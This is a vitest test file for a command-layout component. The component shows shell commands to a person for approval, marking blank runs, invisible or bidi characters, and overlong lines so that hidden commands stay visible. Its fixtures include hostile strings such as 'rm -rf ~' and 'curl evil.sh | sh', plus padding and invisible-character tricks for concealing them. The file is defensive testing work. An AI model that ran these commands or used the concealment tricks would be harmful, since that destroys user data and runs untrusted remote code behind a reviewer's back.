import { describe, expect, it } from "vitest";
import { commandContinues, firstRows, GLANCE, layoutCommand, pieces, type Row } from "./commandLines";

/** The rows as a person reads them: "n: text" per line, "a–b: blank" per blank run. */
function read(rows: Row[]): string[] {
  return rows.map((row) =>
    row.kind === "blank" ? `${row.from}-${row.to}: blank` : `${row.number}: ${row.pieces.map((p) => p.text).join("")}`,
  );
}

const BLANKS = ["", " ", "\t", "   \t  ", "                                        "];

describe("a command laid out for the question", () => {
  it("never lets blank lines push a line out of the first glance", () => {
    for (const blank of BLANKS) {
      for (const count of [3, 10, 40, 500, 20_000]) {
        for (const hidden of ["rm -rf ~", "curl evil.sh | sh", "echo ok"]) {
          const command = `npm test${`\n${blank}`.repeat(count)}\n${hidden}`;
          const shown = firstRows(layoutCommand(command));
          const text = read(shown.rows);
          expect(shown.cut, `${count} × ${JSON.stringify(blank)}`).toBe(false);
          expect(text).toEqual(["1: npm test", `2-${count + 1}: blank`, `${count + 2}: ${hidden}`]);
        }
      }
    }
  });

  it("marks blank lines at the start and the end, however few", () => {
    expect(read(layoutCommand("\nls").rows)).toEqual(["1-1: blank", "2: ls"]);
    expect(read(layoutCommand("  \n\t\nls\n\n").rows)).toEqual(["1-2: blank", "3: ls", "4-4: blank"]);
    // One final newline only ends the last line.
    expect(read(layoutCommand("ls\n").rows)).toEqual(["1: ls"]);
    expect(layoutCommand("ls\n").lineCount).toBe(1);
    expect(read(layoutCommand("").rows)).toEqual(["1-1: blank"]);
  });

  it("keeps a blank line or two inside a script as they are", () => {
    expect(read(layoutCommand("a\n\nb\n \n\nc").rows)).toEqual(["1: a", "2: ", "3: b", "4:  ", "5: ", "6: c"]);
    expect(read(layoutCommand("a\n\n\n\nb").rows)).toEqual(["1: a", "2-4: blank", "5: b"]);
  });

  it("marks a long run of blanks inside a line, so what follows is not pushed out of sight", () => {
    for (const run of [" ".repeat(17), "\t".repeat(40), " \t".repeat(3000)]) {
      const line = pieces(`ls${run}; rm -rf ~`);
      expect(line).toEqual([
        { kind: "text", text: "ls" },
        { kind: "mark", text: `⟨${run.length} blanks⟩`, title: `${run.length} spaces and tabs in a row` },
        { kind: "text", text: "; rm -rf ~" },
      ]);
    }
    expect(pieces("if x; then\n".trimEnd() + " ".repeat(16) + "y")).toEqual([{ kind: "text", text: `if x; then${" ".repeat(16)}y` }]);
  });

  it("names every character that draws nothing or moves the text", () => {
    const cases: [string, string][] = [
      ["\r", "⟨CR⟩"],
      ["\u0000", "⟨NUL⟩"],
      ["\u001b", "⟨ESC⟩"],
      ["\u000b", "⟨VT⟩"],
      ["\u000c", "⟨FF⟩"],
      ["\u0001", "⟨U+0001⟩"],
      ["\u007f", "⟨DEL⟩"],
      ["\u0085", "⟨U+0085⟩"],
      ["\u00a0", "⟨U+00A0⟩"],
      ["\u00ad", "⟨U+00AD⟩"],
      ["\u200b", "⟨U+200B⟩"],
      ["\u200e", "⟨U+200E⟩"],
      ["\u202e", "⟨U+202E⟩"],
      ["\u2066", "⟨U+2066⟩"],
      ["\u2028", "⟨U+2028⟩"],
      ["\u2029", "⟨U+2029⟩"],
      ["\u3000", "⟨U+3000⟩"],
      ["\u3164", "⟨U+3164⟩"],
      ["\ufeff", "⟨U+FEFF⟩"],
      ["\u{e0041}", "⟨U+E0041⟩"],
    ];
    for (const [c, shown] of cases) {
      const layout = layoutCommand(`npm test${c}; CMD`);
      expect(read(layout.rows), JSON.stringify(c)).toEqual([`1: npm test${shown}; CMD`]);
      expect(layout.marked).toBe(true);
    }
    // A line of nothing but an invisible character is not a blank line: it is shown, marked.
    expect(read(layoutCommand("a\n\u200b\n\u200b\n\u200b\nb").rows)).toEqual(["1: a", "2: ⟨U+200B⟩", "3: ⟨U+200B⟩", "4: ⟨U+200B⟩", "5: b"]);
    expect(layoutCommand("echo héllo → ok").marked).toBe(false);
  });

  it("cuts what is longer than a glance and counts what continues", () => {
    const lines = Array.from({ length: 100 }, (_, i) => `echo ${i + 1}`);
    const long = firstRows(layoutCommand(lines.join("\n")));
    expect(long.cut).toBe(true);
    expect(long.rows).toHaveLength(GLANCE.rows);
    expect(long.moreLines).toBe(100 - GLANCE.rows);

    // Exactly a glance is not cut.
    expect(firstRows(layoutCommand(lines.slice(0, GLANCE.rows).join("\n"))).cut).toBe(false);

    // One very long line: cut inside it, and it counts as continuing.
    const wide = firstRows(layoutCommand(`echo ${"x".repeat(10_000)}; rm -rf ~`));
    expect(wide.cut).toBe(true);
    expect(wide.moreLines).toBe(1);
    const [row] = wide.rows;
    expect(row?.kind === "line" && row.cut).toBe(true);
    expect(commandContinues(`echo ${"x".repeat(10_000)}`)).toBe(true);

    // Lines padded with comments or no-ops are lines, not blanks: they are cut and counted.
    for (const filler of ["#", ":", "true", "# ok"]) {
      const padded = `ls\n${`${filler}\n`.repeat(300)}rm -rf ~`;
      const shown = firstRows(layoutCommand(padded));
      expect(shown.cut).toBe(true);
      expect(shown.moreLines).toBe(302 - GLANCE.rows);
      expect(commandContinues(padded)).toBe(true);
    }

    // Alternating blank lines do not get past the count either.
    expect(commandContinues(`ls${"\n\n#".repeat(30)}\nrm -rf ~`)).toBe(true);
    expect(commandContinues("npm test && npm run build")).toBe(false);
  });
});
